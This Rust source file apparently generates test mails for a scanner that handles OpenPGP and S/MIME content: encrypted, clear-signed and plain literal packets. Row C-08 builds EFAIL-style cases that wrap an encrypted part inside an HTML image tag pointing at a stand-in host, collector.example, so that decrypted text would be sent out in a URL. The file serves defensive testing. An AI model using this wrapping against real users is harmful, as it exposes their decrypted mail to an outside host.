//! OpenPGP in mail (RFC 9580, RFC 3156): encrypted, signed in the clear, and packets that only look encrypted.

use super::build::{case, marker_base64, marker_text, row};
use super::compose::{BASE64, base64, leaf, mail, multipart, with, with_file};
use super::packed::{deflate, zlib};
use super::{Case, Expect, Row};
use crate::support::generator::files::{pgp, pgp_armour};
use crate::support::generator::prng::Prng;

pub fn rows() -> Vec<Row> {
    vec![
        row("C-07", "OpenPGP in a mail", messages()),
        row("C-08", "an encrypted part within HTML", within_html()),
    ]
}

const SIGNATURE: &str =
    "-----BEGIN PGP SIGNATURE-----\r\n\r\niHUEABYKAB0WIQ==\r\n=abcd\r\n-----END PGP SIGNATURE-----\r\n";

/// Encrypted bytes in armour.
fn encrypted() -> String {
    pgp_armour(&mut Prng::of("armour")).replace('\n', "\r\n")
}

/// A packet in the format of section 4.2.1.
fn packet(tag: u8, body: &[u8]) -> Vec<u8> {
    let length = body.len();
    let head = match length {
        ..192 => vec![0xc0 | tag, length as u8],
        _ => vec![0xc0 | tag, ((length - 192) >> 8) as u8 + 192, (length - 192) as u8],
    };
    [&head[..], body].concat()
}

/// Literal data (section 5.9) of a file without name and date.
fn literal_body(data: &[u8]) -> Vec<u8> {
    [&b"b\0\0\0\0\0"[..], data].concat()
}

/// The format of section 4.2.2.
fn old_packet(tag: u8, body: &[u8]) -> Vec<u8> {
    [&[0x80 | tag << 2 | 1][..], &(body.len() as u16).to_be_bytes(), body].concat()
}

/// Literal data whose length is told piece by piece (section 4.2.1.4): first 512 bytes, then the rest.
fn literal_in_pieces(data: &[u8]) -> Vec<u8> {
    let body = literal_body(data);
    let (first, rest) = body.split_at(512);
    [&[0xcb, 0xe9][..], first, &[rest.len() as u8], rest].concat()
}

/// A message as a reader of old versions sees it: a packet that says who signs, the literal data, the signature.
fn signed(data: &[u8]) -> Vec<u8> {
    let one_pass = [&[3, 0, 8, 1][..], &[7; 8], &[1]].concat();
    let signature = [&[4, 0, 1, 8, 0, 0, 0, 0, 0, 0][..], &[7; 130]].concat();
    [packet(4, &one_pass), packet(11, &literal_body(data)), packet(2, &signature)].concat()
}

fn armoured(packets: &[u8]) -> String {
    let step = |crc: u32, _| if crc & 0x80_0000 == 0 { crc << 1 } else { crc << 1 ^ 0x86_4cfb };
    let crc = packets.iter().fold(0xb7_04ce, |crc, byte| (0..8).fold(crc ^ u32::from(*byte) << 16, step));
    let sum = base64(&crc.to_be_bytes()[1..]);
    format!("-----BEGIN PGP MESSAGE-----\r\n\r\n{}={sum}-----END PGP MESSAGE-----\r\n", base64(packets))
}

fn messages() -> Vec<Case> {
    let plain = |text: String| mail(leaf("Content-Type: text/plain\r\n", text));
    let parts = |content: &str| {
        let control = leaf("Content-Type: application/pgp-encrypted\r\n", "Version: 1\r\n");
        let octets = leaf("Content-Type: application/octet-stream; name=encrypted.asc\r\n", content);
        let kind = "encrypted; protocol=\"application/pgp-encrypted\"";
        mail(multipart(kind, "foo", &[control, octets]))
    };
    let clear =
        |text: &str| format!("-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\n{text}{SIGNATURE}");
    let html = format!("<p>see below</p><pre>{}</pre>", encrypted());
    let bytes = pgp(&mut Prng::of("file"));
    let sealed = [
        ("encrypted-parts", parts(&encrypted())),
        ("encrypted-inline", plain(encrypted())),
        ("encrypted-inline-after-text", plain(format!("Dear Sam,\r\n\r\n{}\r\nJo\r\n", encrypted()))),
        ("encrypted-inline-in-base64", {
            mail(leaf(&format!("Content-Type: text/plain\r\n{BASE64}"), base64(encrypted())))
        }),
        ("encrypted-in-html", mail(leaf("Content-Type: text/html\r\n", html))),
        ("encrypted-file", with_file("application/octet-stream", "minutes.txt.gpg", &bytes)),
        ("encrypted-file-other-name", with_file("application/octet-stream", "minutes.dat", &bytes)),
        ("encrypted-file-in-armour", with_file("application/octet-stream", "minutes.asc", encrypted())),
    ];
    let text = marker_text();
    let data = text.as_bytes();
    let long = format!("{}{text}", "All of this is known.\r\n".repeat(24));
    let entity = leaf(&format!("Content-Type: text/plain\r\n{BASE64}"), marker_base64());
    let zip = [&[1][..], &deflate(&packet(11, &literal_body(data)))].concat();
    let zlib = [&[2][..], &zlib(&packet(11, &literal_body(data)))].concat();
    let readable = [
        ("clear", plain(clear(&text))),
        ("clear-dashes-escaped", plain(clear(&format!("- -----\r\n{text}- -----\r\n")))),
        ("clear-in-base64", {
            mail(leaf(&format!("Content-Type: text/plain\r\n{BASE64}"), base64(clear(&text))))
        }),
        ("literal", plain(armoured(&packet(11, &literal_body(data))))),
        ("literal-old-format", plain(armoured(&old_packet(11, &literal_body(data))))),
        ("literal-in-pieces", plain(armoured(&literal_in_pieces(long.as_bytes())))),
        ("literal-zip", plain(armoured(&packet(8, &zip)))),
        ("literal-zlib", plain(armoured(&packet(8, &zlib)))),
        ("literal-signed", plain(armoured(&signed(data)))),
        ("literal-entity-in-parts", parts(&armoured(&packet(11, &literal_body(&entity))))),
        ("literal-file", with_file("application/pgp", "minutes.pgp", packet(8, &zip))),
    ];
    let encrypted = || Expect::nothing().shortfall("encrypted");
    let sealed = sealed.map(|(name, mail)| case(name, mail, encrypted()));
    let readable = readable.map(|(name, mail)| case(name, mail, Expect::found()));
    sealed.into_iter().chain(readable).collect()
}

/// Row C-08: what is decrypted would become part of an address that the reader's program fetches.
fn within_html() -> Vec<Case> {
    let html = |text: &str| leaf("Content-Type: text/html\r\n", text);
    let around = |part: Vec<u8>| {
        let open = html("<img src=\"http://collector.example/");
        mail(multipart("mixed", "foo", &[open, part, html("\">")]))
    };
    let control = leaf("Content-Type: application/pgp-encrypted\r\n", "Version: 1\r\n");
    let octets = leaf("Content-Type: application/octet-stream\r\n", encrypted());
    let kind = "encrypted; protocol=\"application/pgp-encrypted\"";
    let smime = leaf(
        &format!(
            "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n{BASE64}"
        ),
        base64(super::cms::enveloped(super::cms::Form::Definite)),
    );
    let mails = [
        ("smime", around(smime.clone())),
        ("pgp-parts", around(multipart(kind, "bar", &[control, octets]))),
        ("pgp-inline", around(leaf("Content-Type: text/plain\r\n", encrypted()))),
        ("smime-in-a-message", around(leaf("Content-Type: message/rfc822\r\n", mail(smime)))),
        (
            "pgp-inline-in-the-attribute",
            with(html(&format!("<img src=\"http://x.example/{}\">", encrypted()))),
        ),
    ];
    mails.map(|(name, mail)| case(name, mail, Expect::nothing().shortfall("encrypted"))).into()
}
